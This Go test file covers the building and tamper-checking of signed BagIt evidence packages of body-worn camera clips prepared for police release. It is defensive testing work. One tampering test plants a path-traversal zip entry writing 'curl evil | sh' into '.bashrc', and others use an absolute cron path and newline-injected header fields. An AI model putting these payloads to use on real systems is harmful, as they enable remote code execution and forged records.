package exhibit

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-gw/vigil/evidence/bagit"
	"github.com/vigil-gw/vigil/evidence/ledger"
)

func TestBuildVerify(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	z := f.build(t)

	t.Run("valid with the independent key", func(t *testing.T) {
		r := verify(t, z, Options{PubKey: f.vkey})
		require.True(t, r.OK(), problems(r))
		assert.True(t, r.KeyChecked)
		assert.Empty(t, r.Warnings)
		assert.Equal(t, "vigil-REL-2025-0007", r.Bag)
		assert.Equal(t, f.vkey, r.Key)
		assert.Equal(t, testOrigin, r.Checkpoint.Origin)
		assert.Equal(t, uint64(len(testClips)), r.Checkpoint.Size)
		assert.Equal(t, []string{"JS/1"}, bagit.Lookup(r.Info, "External-Identifier"))
		assert.Equal(t, []string{"42/12345/25"}, bagit.Lookup(r.Info, "Crime-Reference"))

		require.Len(t, r.Clips, 3)
		for i, c := range r.Clips {
			want := f.pkg.Clips[i]
			assert.Equal(t, want.Camera, c.Camera)
			assert.Equal(t, want.Clip, c.Clip)
			assert.Equal(t, "data/"+want.Camera+"/"+want.Clip, c.File)
			assert.Equal(t, want.Wearer, c.Wearer)
			assert.Equal(t, want.SHA256, c.SHA256)
			assert.Equal(t, want.Size, c.Size)
			assert.True(t, want.Start.Equal(c.Start))
			assert.Equal(t, want.Proof.Index, c.Index)
			assert.Equal(t, 8, c.Steps, "7 recorded steps and the export")
			assert.True(t, c.Proved)
			assert.True(t, c.OK)
		}
		require.Len(t, r.Continuity, 3)
		assert.Equal(t, "cam-alpha/alpha-0001.mp4: captured, received, verified, uploaded, accessed ×2, retention changed, exported (8 steps, 2025-03-01T09:00:00.000Z to 2025-03-04T09:00:00.000Z)", r.Continuity[0])
		passed := strings.Join(r.Passed, "\n")
		for _, want := range []string{"BagIt 1.0 bag vigil-REL-2025-0007", "tagmanifest-sha256.txt.sig: signed by vigil-site-a", "checkpoint.txt: signed by vigil-site-a", "included in the signed checkpoint", "size and SHA-256 are those of its ledger entry", "key given independently"} {
			assert.Contains(t, passed, want)
		}
	})

	t.Run("without a key the report says it was not checked", func(t *testing.T) {
		r := verify(t, z, Options{})
		require.True(t, r.OK(), problems(r))
		assert.False(t, r.KeyChecked)
		require.Len(t, r.Warnings, 1)
		assert.Contains(t, r.Warnings[0], "NOT independently checked")
	})

	t.Run("deterministic", func(t *testing.T) {
		assert.Equal(t, sha256.Sum256(z), sha256.Sum256(f.build(t)), "the same inputs give the same package")
	})

	t.Run("progress", func(t *testing.T) {
		var last, calls int64
		var total int64
		r, err := Verify(context.Background(), bytes.NewReader(z), int64(len(z)), Options{PubKey: f.vkey, Progress: func(done, tot int64) {
			assert.GreaterOrEqual(t, done, last)
			last, total = done, tot
			calls++
		}})
		require.NoError(t, err)
		require.True(t, r.OK())
		assert.Greater(t, calls, int64(2))
		assert.Equal(t, total, last)
		assert.Greater(t, total, int64(3<<20))
	})
}

// TestBagIsWellFormed checks the package as a BagIt 1.0 bag, with the bag
// reader and directly from the zip.
func TestBagIsWellFormed(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	z := f.build(t)

	b, err := bagit.Open(bytes.NewReader(z), int64(len(z)))
	require.NoError(t, err)
	res, err := b.Validate(context.Background(), nil)
	require.NoError(t, err)
	require.True(t, res.OK(), "%v", res.Problems)
	assert.Equal(t, []string{SignatureFile}, res.Unlisted, "only the signature is outside the tag manifest")

	zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	require.NoError(t, err)
	var names []string
	for _, e := range zr.File {
		assert.Equal(t, zip.Store, e.Method, e.Name)
		assert.True(t, strings.HasPrefix(e.Name, "vigil-REL-2025-0007/"), e.Name)
		names = append(names, strings.TrimPrefix(e.Name, "vigil-REL-2025-0007/"))
	}
	assert.Equal(t, []string{
		"bagit.txt",
		"data/cam-alpha/alpha-0001.mp4", "data/cam-bravo/bravo-0001.mp4", "data/cam-alpha/alpha-0003.mp4",
		"proofs/cam-alpha/alpha-0001.mp4.json", "continuity/cam-alpha/alpha-0001.mp4.txt",
		"proofs/cam-bravo/bravo-0001.mp4.json", "continuity/cam-bravo/bravo-0001.mp4.txt",
		"proofs/cam-alpha/alpha-0003.mp4.json", "continuity/cam-alpha/alpha-0003.mp4.txt",
		"checkpoint.txt", "gateway.pub", "section9-statement-draft.txt", "README.txt",
		"bag-info.txt", "manifest-sha256.txt", "manifest-sha512.txt", "tagmanifest-sha256.txt",
		"tagmanifest-sha256.txt.sig",
	}, names)

	u := unpack(t, z)
	assert.Equal(t, "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n", string(u.data["bagit.txt"]))
	for path, want := range f.bytes {
		got, ok := u.data["data/"+path]
		if !ok {
			continue
		}
		assert.True(t, bytes.Equal(want, got), "%s is the original, byte for byte", path)
	}
	// Every payload file in both manifests, and nothing else.
	for _, m := range []string{"manifest-sha256.txt", "manifest-sha512.txt"} {
		entries, err := bagit.ParseManifest(u.data[m], strings.TrimSuffix(strings.TrimPrefix(m, "manifest-"), ".txt"))
		require.NoError(t, err)
		var listed []string
		for _, e := range entries {
			listed = append(listed, e.Path)
		}
		assert.ElementsMatch(t, []string{"data/cam-alpha/alpha-0001.mp4", "data/cam-bravo/bravo-0001.mp4", "data/cam-alpha/alpha-0003.mp4"}, listed, m)
	}
	info := string(u.data["bag-info.txt"])
	for _, want := range []string{
		"Source-Organization: Example Community NHS Trust\n", "External-Identifier: JS/1\n", "Crime-Reference: 42/12345/25\n",
		"Requesting-Officer: DC 1234 Jo Smith\n", "Force: Example Constabulary\n", "Bagging-Date: 2025-03-04\n",
		"Contact-Name: Information Governance Office\n", "Contact-Email: ig@example.nhs.uk\n", "Bag-Count: 1 of 1\n",
		"Internal-Sender-Identifier: REL-2025-0007\n", "Incident-Reference: INC-2025-0042\n",
		"Release-Requested-By: Priya Patel (IG)\n", "Release-Approved-By: Sam Jones (IG lead)\n",
		"Payload-Oxum: 3351885.3\n",
	} {
		assert.Contains(t, info, want)
	}
	assert.Equal(t, f.vkey+"\n", string(u.data["gateway.pub"]))
	assert.Equal(t, f.pkg.Checkpoint, u.data["checkpoint.txt"])

	// The signature binds the tag manifest's digest and the bag name, in
	// sha256sum's format.
	tm := sha256.Sum256(u.data["tagmanifest-sha256.txt"])
	sig := string(u.data[SignatureFile])
	assert.True(t, strings.HasPrefix(sig, "vigil-exhibit/v1 tag manifest\nbag vigil-REL-2025-0007\n"+hex.EncodeToString(tm[:])+"  tagmanifest-sha256.txt\n\n— vigil-site-a "), sig)

	// The proof file carries the body and the proof the ledger gave.
	var pf proofFile
	pf, proof, err := parseProof(u.data["proofs/cam-bravo/bravo-0001.mp4.json"])
	require.NoError(t, err)
	assert.Equal(t, string(f.pkg.Clips[1].Body), pf.Body)
	assert.Equal(t, f.pkg.Clips[1].Proof.Index, proof.Index)
	assert.Equal(t, f.pkg.Clips[1].Proof.Hashes, proof.Hashes)
	assert.Contains(t, string(u.data["proofs/cam-bravo/bravo-0001.mp4.json"]), `Ward 7 <North> & `, "readable: HTML characters are not escaped")
}

// TestShellVerification follows README.txt's instructions without
// vigil-verify, with the tools it names, where they are installed.
func TestShellVerification(t *testing.T) {
	for _, tool := range []string{"sha256sum", "sha512sum"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed", tool)
		}
	}
	f := newFixture(t, "vigil-site-a")
	u := unpack(t, f.build(t))
	dir := t.TempDir()
	for p, data := range u.data {
		full := filepath.Join(dir, filepath.FromSlash(p))
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(t, os.WriteFile(full, data, 0o644))
	}
	for _, args := range [][]string{
		{"sha256sum", "-c", "--strict", "manifest-sha256.txt"},
		{"sha512sum", "-c", "--strict", "manifest-sha512.txt"},
		{"sha256sum", "-c", "--strict", "tagmanifest-sha256.txt"},
	} {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%v: %s", args, out)
	}
	cmd := exec.Command("sha256sum", "tagmanifest-sha256.txt")
	cmd.Dir = dir
	out, err := cmd.Output()
	require.NoError(t, err)
	assert.Equal(t, strings.Split(string(u.data[SignatureFile]), "\n")[2], strings.TrimSpace(string(out)),
		"line 3 of the signed text is what sha256sum prints")

	// The README's proof algorithm, written out by hand.
	pf, _, err := parseProof(u.data["proofs/cam-alpha/alpha-0003.mp4.json"])
	require.NoError(t, err)
	cpLines := strings.Split(string(u.data["checkpoint.txt"]), "\n")
	root, err := base64.StdEncoding.DecodeString(cpLines[2])
	require.NoError(t, err)
	leaf := sha256.Sum256(append([]byte{0}, pf.Body...))
	assert.Equal(t, pf.LeafHash, hex.EncodeToString(leaf[:]))
	fn, sn, r := pf.Index, pf.TreeSize-1, leaf[:]
	for _, hh := range pf.Hashes {
		h, _ := hex.DecodeString(hh)
		require.NotZero(t, sn)
		if fn%2 == 1 || fn == sn {
			s := sha256.Sum256(append(append([]byte{1}, h...), r...))
			r = s[:]
			for fn%2 == 0 && fn != 0 {
				fn, sn = fn/2, sn/2
			}
		} else {
			s := sha256.Sum256(append(append([]byte{1}, r...), h...))
			r = s[:]
		}
		fn, sn = fn/2, sn/2
	}
	assert.Zero(t, sn)
	assert.Equal(t, root, r, "README's algorithm reaches the signed root")
}

// TestTampering changes the package the ways an attacker or an accident
// would, and checks that Verify fails naming the file and the check.
func TestTampering(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	z := f.build(t)
	const clip1 = "data/cam-alpha/alpha-0001.mp4"
	const proof1 = "proofs/cam-alpha/alpha-0001.mp4.json"
	attacker, attackerKey := newKey(t, "vigil-site-a") // same name, other key

	tests := []struct {
		name   string
		tamper func(t *testing.T, u *bagFiles) []byte
		want   []string
	}{
		{"payload byte changed", func(t *testing.T, u *bagFiles) []byte {
			u.data[clip1][1000] ^= 1
			return u.pack(t)
		}, []string{clip1 + ": SHA-256 is ", "but manifest-sha256.txt (line 1) says", clip1 + ": the clip's SHA-256 is "}},

		{"payload byte changed, manifests recomputed", func(t *testing.T, u *bagFiles) []byte {
			u.data[clip1][1000] ^= 1
			u.rehash()
			return u.pack(t)
		}, []string{"tagmanifest-sha256.txt.sig: the signed SHA-256 of tagmanifest-sha256.txt is", "the tag manifest was changed after it was signed",
			clip1 + ": the clip's SHA-256 is ", "ledger entry (" + proof1 + ") records"}},

		{"payload file added", func(t *testing.T, u *bagFiles) []byte {
			u.set("data/cam-alpha/alpha-extra.mp4", []byte("planted"))
			return u.pack(t)
		}, []string{"data/cam-alpha/alpha-extra.mp4: payload file not listed in manifest-sha256.txt", "data/cam-alpha/alpha-extra.mp4: no proof"}},

		{"payload file removed", func(t *testing.T, u *bagFiles) []byte {
			u.remove("data/cam-bravo/bravo-0001.mp4")
			return u.pack(t)
		}, []string{"data/cam-bravo/bravo-0001.mp4: listed in manifest-sha256.txt (line 3) but not in the bag",
			"proofs/cam-bravo/bravo-0001.mp4.json: proof of clip cam-bravo/bravo-0001.mp4, which is not in the package"}},

		{"payload file removed, manifests recomputed", func(t *testing.T, u *bagFiles) []byte {
			u.remove("data/cam-bravo/bravo-0001.mp4")
			u.rehash()
			return u.pack(t)
		}, []string{"tagmanifest-sha256.txt.sig: the signed SHA-256", "proofs/cam-bravo/bravo-0001.mp4.json: proof of clip cam-bravo/bravo-0001.mp4, which is not in the package"}},

		{"manifest line edited", func(t *testing.T, u *bagFiles) []byte {
			m := u.data["manifest-sha512.txt"]
			m[5] = "0123456789abcdef"[(strings.IndexByte("0123456789abcdef", m[5])+1)%16]
			return u.pack(t)
		}, []string{clip1 + ": SHA-512 is", "but manifest-sha512.txt (line 1) says", "manifest-sha512.txt: SHA-256 is ", "tagmanifest-sha256.txt (line"}},

		{"tag file edited", func(t *testing.T, u *bagFiles) []byte {
			p := "continuity/cam-alpha/alpha-0001.mp4.txt"
			u.data[p] = bytes.Replace(u.data[p], []byte("Priya Patel"), []byte("Someone Else"), 1)
			return u.pack(t)
		}, []string{"continuity/cam-alpha/alpha-0001.mp4.txt: SHA-256 is ", "but tagmanifest-sha256.txt (line"}},

		{"tag file edited, tag manifest recomputed", func(t *testing.T, u *bagFiles) []byte {
			u.data["bag-info.txt"] = bytes.Replace(u.data["bag-info.txt"], []byte("JS/1"), []byte("JS/2"), 1)
			u.rehash()
			return u.pack(t)
		}, []string{"tagmanifest-sha256.txt.sig: the signed SHA-256 of tagmanifest-sha256.txt is"}},

		{"proof hash altered", func(t *testing.T, u *bagFiles) []byte {
			pf, _, err := parseProof(u.data[proof1])
			require.NoError(t, err)
			require.NotEmpty(t, pf.Hashes)
			h := []byte(pf.Hashes[0])
			h[0] = "0123456789abcdef"[(strings.IndexByte("0123456789abcdef", h[0])+1)%16]
			pf.Hashes[0] = string(h)
			u.data[proof1], err = encodeProof(pf)
			require.NoError(t, err)
			u.rehash()
			return u.pack(t)
		}, []string{proof1 + ": the inclusion proof of ledger entry 0 does not lead to the root signed in checkpoint.txt", "tagmanifest-sha256.txt.sig:"}},

		{"entry body altered", func(t *testing.T, u *bagFiles) []byte {
			pf, _, err := parseProof(u.data[proof1])
			require.NoError(t, err)
			pf.Body = strings.Replace(pf.Body, "Alice Carer", "Alice Carter", 1)
			u.data[proof1], err = encodeProof(pf)
			require.NoError(t, err)
			u.rehash()
			return u.pack(t)
		}, []string{proof1 + ": leaf_hash", "is not the hash of the body", proof1 + ": the inclusion proof of ledger entry 0 does not lead to the root"}},

		{"proof reformatted", func(t *testing.T, u *bagFiles) []byte {
			u.data[proof1] = bytes.ReplaceAll(u.data[proof1], []byte("  "), []byte("\t"))
			u.rehash()
			return u.pack(t)
		}, []string{proof1 + ": not in the exact form Vigil writes"}},

		{"checkpoint altered", func(t *testing.T, u *bagFiles) []byte {
			cp := u.data["checkpoint.txt"]
			lines := strings.SplitN(string(cp), "\n", 3)
			u.data["checkpoint.txt"] = []byte(lines[0] + "\n" + "7\n" + lines[2])
			return u.pack(t)
		}, []string{"checkpoint.txt: signature by vigil-site-a does not match the text: the note was altered after signing", "checkpoint.txt: SHA-256 is"}},

		{"checkpoint from another key", func(t *testing.T, u *bagFiles) []byte {
			n, err := ledger.ParseCheckpoint(u.data["checkpoint.txt"], mustVerifier(t, f.vkey))
			require.NoError(t, err)
			text := strings.SplitN(string(n.Note), "\n\n", 2)[0] + "\n"
			u.data["checkpoint.txt"] = mustSign(t, text, attacker)
			u.rehash()
			return u.pack(t)
		}, []string{"checkpoint.txt: not signed by key vigil-site-a"}},

		{"signature removed", func(t *testing.T, u *bagFiles) []byte {
			u.remove(SignatureFile)
			return u.pack(t)
		}, []string{"tagmanifest-sha256.txt.sig: missing from the package"}},

		{"unlisted file added", func(t *testing.T, u *bagFiles) []byte {
			u.set("NOTE-TO-COURT.txt", []byte("the footage is fake"))
			return u.pack(t)
		}, []string{"NOTE-TO-COURT.txt: not listed in tagmanifest-sha256.txt, so the signature does not cover it"}},

		{"second tag manifest added", func(t *testing.T, u *bagFiles) []byte {
			u.set("tagmanifest-sha512.txt", []byte(""))
			return u.pack(t)
		}, []string{"tagmanifest-sha512.txt: a second tag manifest, which the signature does not cover"}},

		{"bag renamed", func(t *testing.T, u *bagFiles) []byte {
			u.bag = "vigil-REL-2025-0008"
			return u.pack(t)
		}, []string{`tagmanifest-sha256.txt.sig: signed for "vigil-REL-2025-0007", but this bag is "vigil-REL-2025-0008"`}},

		{"embedded key swapped and tag manifest re-signed", func(t *testing.T, u *bagFiles) []byte {
			u.data[clip1][1000] ^= 1
			u.data["gateway.pub"] = []byte(attackerKey + "\n")
			u.rehash()
			u.resign(t, attacker)
			return u.pack(t)
		}, []string{"gateway.pub: the package's key " + attackerKey + " is not the key given independently (" + f.vkey + ")",
			"tagmanifest-sha256.txt.sig: not signed by the given key " + f.vkey + " (signed only by vigil-site-a+",
			clip1 + ": the clip's SHA-256 is "}},

		{"path traversal entry", func(t *testing.T, u *bagFiles) []byte {
			return u.pack(t, [2]string{"vigil-REL-2025-0007/../../.bashrc", "curl evil | sh"})
		}, []string{`vigil-REL-2025-0007/../../.bashrc: unsafe zip entry name: path has a ".." element`}},

		{"absolute entry", func(t *testing.T, u *bagFiles) []byte {
			return u.pack(t, [2]string{"/etc/cron.d/x", "x"})
		}, []string{"/etc/cron.d/x: unsafe zip entry name: absolute path"}},

		{"backslash entry", func(t *testing.T, u *bagFiles) []byte {
			return u.pack(t, [2]string{`vigil-REL-2025-0007\..\..\x.bat`, "x"})
		}, []string{`vigil-REL-2025-0007\..\..\x.bat: unsafe zip entry name: path contains a backslash`}},

		{"truncated", func(t *testing.T, u *bagFiles) []byte {
			z := u.pack(t)
			return z[:len(z)/2]
		}, []string{"not a readable zip file"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			bad := tt.tamper(t, unpack(t, z))
			r := verify(t, bad, Options{PubKey: f.vkey})
			require.False(t, r.OK(), "tampering went unnoticed")
			got := problems(r)
			for _, w := range tt.want {
				assert.Contains(t, got, w)
			}
			if t.Failed() {
				t.Logf("problems:\n%s", got)
			}
		})
	}

	t.Run("raw byte flip in the zip", func(t *testing.T) {
		bad := bytes.Clone(z)
		orig := f.bytes["cam-bravo/bravo-0001.mp4"]
		i := bytes.Index(bad, orig[:256])
		require.Positive(t, i)
		bad[i+2<<20] ^= 0x01
		r := verify(t, bad, Options{PubKey: f.vkey})
		require.False(t, r.OK())
		got := problems(r)
		assert.Contains(t, got, "data/cam-bravo/bravo-0001.mp4: the zip entry's CRC-32 does not match its bytes")
		assert.Contains(t, got, "data/cam-bravo/bravo-0001.mp4: the clip's SHA-256 is ")
		for _, c := range r.Clips {
			assert.Equal(t, c.Camera != "cam-bravo", c.OK, "only the damaged clip is marked: %s", c.Clip)
		}
	})
}

// TestForgedPackage is a package made from scratch by someone with their own
// ledger and key: internally consistent, caught only by the independent key.
func TestForgedPackage(t *testing.T) {
	real := newFixture(t, "vigil-site-a")
	forger := newFixture(t, "vigil-site-a") // same key name, different key
	require.NotEqual(t, real.vkey, forger.vkey)
	z := forger.build(t)

	r := verify(t, z, Options{})
	assert.True(t, r.OK(), "without the independent key a consistent forgery verifies: %s", problems(r))
	assert.False(t, r.KeyChecked)
	require.NotEmpty(t, r.Warnings)
	assert.Contains(t, r.Warnings[0], "NOT independently checked")

	r = verify(t, z, Options{PubKey: real.vkey})
	require.False(t, r.OK())
	assert.False(t, r.KeyChecked)
	got := problems(r)
	for _, want := range []string{
		"gateway.pub: the package's key " + forger.vkey + " is not the key given independently (" + real.vkey + ")",
		"tagmanifest-sha256.txt.sig: not signed by the given key " + real.vkey,
		"checkpoint.txt: not signed by key vigil-site-a",
	} {
		assert.Contains(t, got, want)
	}
	for _, c := range r.Clips {
		assert.False(t, c.Proved, "a proof to a root the trusted key did not sign proves nothing")
	}

	// A key with another name is reported as such.
	_, other := newKey(t, "vigil-site-b")
	r = verify(t, real.build(t), Options{PubKey: other})
	assert.Contains(t, problems(r), "tagmanifest-sha256.txt.sig: not signed by the given key "+other)

	r = verify(t, real.build(t), Options{PubKey: "not a key"})
	assert.Contains(t, problems(r), `the key given to check against ("not a key") is not a note verifier key`)
}

// TestNoOtherWearers greps the package for the names and ids of clips that
// were not exported.
func TestNoOtherWearers(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	z := f.build(t)
	u := unpack(t, z)
	var all bytes.Buffer
	all.Write(z)
	for _, p := range u.order {
		all.Write(u.data[p]) // stored, but check the extracted text too
	}
	for _, tc := range testClips {
		if tc.export {
			assert.Contains(t, all.String(), tc.clip)
			continue
		}
		assert.NotContains(t, all.String(), tc.clip, "clip id of a clip not exported")
		assert.NotContains(t, all.String(), tc.wearer, "wearer of a clip not exported")
		other := content(tc.camera+"/"+tc.clip, tc.size)
		s := sha256.Sum256(other)
		assert.NotContains(t, all.String(), hex.EncodeToString(s[:]), "digest of a clip not exported")
		assert.False(t, bytes.Contains(all.Bytes(), other[:64]), "bytes of a clip not exported")
	}
	assert.NotContains(t, all.String(), "cam-zulu", "a camera none of whose clips was exported")
}

func TestStatementAndReadme(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	u := unpack(t, f.build(t))
	st := string(u.data[StatementFile])
	flat := strings.Join(strings.Fields(st), " ")
	assert.True(t, strings.HasPrefix(st, "*** DRAFT - NOT A STATEMENT UNTIL CHECKED, COMPLETED AND SIGNED BY THE WITNESS ***\n"))
	assert.True(t, strings.HasSuffix(st, "*** DRAFT - NOT A STATEMENT UNTIL CHECKED, COMPLETED AND SIGNED BY THE WITNESS ***\n"))
	assert.Contains(t, flat, "This statement (consisting of ___ page(s) each signed by me) is true to the best of my knowledge and belief and I make it knowing that, if it is tendered in evidence, I shall be liable to prosecution if I have wilfully stated in it anything which I know to be false, or do not believe to be true.")
	assert.Contains(t, flat, "Criminal Justice Act 1967, s.9")
	assert.Contains(t, flat, "Statement of: ______________________________")
	assert.Equal(t, 2, strings.Count(st, "Signature: ______________________________   Date: ____________"))
	assert.Contains(t, flat, "I produce this package as exhibit JS/1.")
	for _, c := range f.pkg.Clips {
		assert.Contains(t, flat, "data/"+c.Camera+"/"+c.Clip)
		assert.Contains(t, flat, c.SHA256)
		assert.Contains(t, flat, fmtTime(c.Start))
		assert.Contains(t, flat, "Camera "+c.Camera+", worn by "+c.Wearer)
	}
	assert.Contains(t, st, "\n     (5 min 2 s). Size 3145851 bytes.\n     SHA-256 "+f.pkg.Clips[1].SHA256+"\n")
	assert.Contains(t, flat, "uploaded by the camera over the network")
	assert.Contains(t, flat, "copied from the camera by a docking station")

	rd := string(u.data[ReadmeFile])
	flatRd := strings.Join(strings.Fields(rd), " ")
	for _, want := range []string{"sha256sum -c manifest-sha256.txt", "sha512sum -c manifest-sha512.txt", "sha256sum -c tagmanifest-sha256.txt",
		"vigil-verify --pubkey", f.vkey, "Get-FileHash -Algorithm SHA256 data\\cam-alpha\\alpha-0001.mp4", "jq -j .body", "RFC 9162"} {
		assert.Contains(t, flatRd, want)
	}
	for _, line := range strings.Split(rd, "\n") {
		// The key and commands naming a clip are never broken.
		command := strings.HasPrefix(line, "     ") && strings.ContainsAny(line, `/\`)
		if !strings.Contains(line, f.vkey) && !command {
			assert.LessOrEqual(t, len([]rune(line)), 80, "README line too long: %q", line)
		}
	}

	ct := string(u.data["continuity/cam-alpha/alpha-0003.mp4.txt"])
	assert.Contains(t, ct, "Step 8: 2025-03-04T09:00:00.000Z exported\n  Who:    Sam Jones (IG lead)\n  Role:   release approver\n  Why:    release request REL-2025-0007 (crime reference 42/12345/25), requested by Priya Patel (IG)\n")
	assert.Contains(t, ct, "Step 5: 2025-03-02T09:00:00.000Z accessed\n  Who:    Priya Patel\n  Role:   ig\n  Why:    review for police request 42/12345/25\n")
	assert.Regexp(t, regexp.MustCompile(`SHA-256: +`+f.pkg.Clips[2].SHA256), ct)
}

func TestBuildRefuses(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	other := newFixture(t, "vigil-site-a")
	_, otherKey := newKey(t, "vigil-site-a")
	// A later checkpoint of the same ledger: the proofs are for the earlier.
	ctx := context.Background()
	_, err := f.l.Append(ctx, ledger.Clip{Camera: "cam-late", Clip: "late", Start: t0, End: t0, Size: 1,
		SHA256: strings.Repeat("a", 64), Received: t0, Ingest: ledger.IngestTUS})
	require.NoError(t, err)
	later, _, err := f.l.Checkpoint(ctx, t0.Add(3*time.Hour))
	require.NoError(t, err)

	tests := []struct {
		name   string
		modify func(p *Package)
		want   string
	}{
		{"no exhibit", func(p *Package) { p.ExhibitRef = " " }, "ExhibitRef is empty"},
		{"no officer", func(p *Package) { p.Officer = "" }, "Officer is empty"},
		{"newline", func(p *Package) { p.Force = "Example\nPayload-Oxum: 1.1" }, `Force "Example\nPayload-Oxum: 1.1": contains the control character U+000A`},
		{"bad request id", func(p *Package) { p.RequestID = "REL/7" }, `RequestID "REL/7" cannot name the bag directory`},
		{"self-approved", func(p *Package) { p.ApprovedBy = "priya patel (ig) " }, "approval needs a different person"},
		{"no time", func(p *Package) { p.Bagged = time.Time{} }, "Bagged is not set"},
		{"no clips", func(p *Package) { p.Clips = nil }, "no clips"},
		{"no signer", func(p *Package) { p.Signer = nil }, "no Signer"},
		{"bad key", func(p *Package) { p.PublicKey = "x" }, `PublicKey "x" is not a note verifier key`},
		{"signer not the key", func(p *Package) { p.PublicKey = otherKey }, "is not the key in PublicKey"},
		{"proofs for another checkpoint", func(p *Package) { p.Checkpoint = later.Note },
			"clip cam-alpha/alpha-0001.mp4: proof does not lead to the checkpoint: ledger: verify inclusion of entry 0: proof is for tree size 6 but the checkpoint is for size 7"},
		{"checkpoint not signed", func(p *Package) { p.Checkpoint = other.pkg.Checkpoint }, "the checkpoint does not verify with PublicKey"},
		{"invalid clip id", func(p *Package) { p.Clips[0].Clip = "../x"; p.Clips[0].Body = nil }, `clip 1: clip id "../x" is not valid`},
		{"invalid camera", func(p *Package) { p.Clips[0].Camera = "cam 1" }, `clip 1: camera "cam 1" is not a valid device id`},
		{"clip disagrees with body", func(p *Package) { p.Clips[1].SHA256 = strings.Repeat("0", 64) }, "clip cam-bravo/bravo-0001.mp4: SHA256 is"},
		{"wearer disagrees with body", func(p *Package) { p.Clips[1].Wearer = "Someone" }, `clip cam-bravo/bravo-0001.mp4: Wearer is "Someone" but the ledger entry body says "Bob Nurse"`},
		{"wrong body", func(p *Package) { p.Clips[1].Body = p.Clips[0].Body }, `clip cam-bravo/bravo-0001.mp4: Camera is "cam-bravo" but the ledger entry body says "cam-alpha"`},
		{"wrong proof", func(p *Package) { p.Clips[1].Proof = p.Clips[0].Proof }, "clip cam-bravo/bravo-0001.mp4: proof does not lead to the checkpoint"},
		{"duplicate clip", func(p *Package) { p.Clips = append(p.Clips, p.Clips[0]) }, "clip cam-alpha/alpha-0001.mp4 is given twice"},
		{"no opener", func(p *Package) { p.Clips[0].Open = nil }, "Open is nil"},
		{"steps out of order", func(p *Package) {
			s := p.Clips[0].Continuity
			s[0], s[1] = s[1], s[0]
		}, "continuity step 2 (2025-03-01T09:00:00.000Z) is earlier than step 1"},
		{"step newline", func(p *Package) { p.Clips[0].Continuity[4].Why = "a\nStep 9: forged" }, "continuity step 5: Why: contains the control character U+000A"},
		{"step after bagging", func(p *Package) { p.Bagged = t0.Add(25 * time.Hour) }, "is after Bagged"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := f.pkg
			p.Clips = append([]Clip(nil), f.pkg.Clips...)
			for i := range p.Clips {
				p.Clips[i].Continuity = append([]Step(nil), p.Clips[i].Continuity...)
			}
			tt.modify(&p)
			var buf bytes.Buffer
			err := Build(context.Background(), &buf, p)
			require.ErrorIs(t, err, ErrInvalid)
			assert.ErrorContains(t, err, tt.want)
			assert.Zero(t, buf.Len(), "nothing is written for an invalid package")
		})
	}

	t.Run("bytes are not the recorded clip", func(t *testing.T) {
		p := f.pkg
		p.Clips = append([]Clip(nil), f.pkg.Clips...)
		p.Clips[2].Open = func(context.Context) (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader("transcoded copy")), nil
		}
		err := Build(context.Background(), io.Discard, p)
		assert.ErrorContains(t, err, "exhibit: clip cam-alpha/alpha-0003.mp4: the bytes read are 15 bytes with SHA-256")
		assert.ErrorContains(t, err, "refusing to produce them as the original")
	})
	t.Run("open fails", func(t *testing.T) {
		p := f.pkg
		p.Clips = append([]Clip(nil), f.pkg.Clips...)
		p.Clips[1].Open = func(context.Context) (io.ReadCloser, error) { return nil, errors.New("object store unreachable") }
		err := Build(context.Background(), io.Discard, p)
		assert.EqualError(t, err, "exhibit: clip cam-bravo/bravo-0001.mp4: open: object store unreachable")
	})
	t.Run("cancelled", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		err := Build(ctx, io.Discard, f.pkg)
		assert.ErrorIs(t, err, context.Canceled)
	})
}

// failingReaderAt fails reads that touch byte bad.
type failingReaderAt struct {
	r   io.ReaderAt
	bad int64
}

func (f failingReaderAt) ReadAt(p []byte, off int64) (int, error) {
	if off <= f.bad && f.bad < off+int64(len(p)) {
		return 0, errors.New("read error on the DVD")
	}
	return f.r.ReadAt(p, off)
}

func TestVerifyIOError(t *testing.T) {
	f := newFixture(t, "vigil-site-a")
	z := f.build(t)
	_, err := Verify(context.Background(), failingReaderAt{bytes.NewReader(z), 1 << 20}, int64(len(z)), Options{})
	assert.ErrorContains(t, err, "read error on the DVD")

	r, err := Verify(context.Background(), strings.NewReader("not a zip"), 9, Options{})
	require.NoError(t, err, "a file that is not a package is a finding, not an I/O error")
	assert.Contains(t, problems(r), "not a readable zip file")
}

// TestImports enforces that the police package and its verifier depend on
// nothing of the gateway, and not on the evidence package above them.
func TestImports(t *testing.T) {
	out, err := exec.Command("go", "list", "-deps", ".").Output()
	require.NoError(t, err)
	for _, dep := range strings.Fields(string(out)) {
		rest, ok := strings.CutPrefix(dep, "github.com/vigil-gw/vigil/")
		if !ok {
			continue
		}
		assert.Contains(t, []string{"evidence/exhibit", "evidence/bagit", "evidence/ledger"}, rest, "exhibit must not import %s", dep)
	}
}
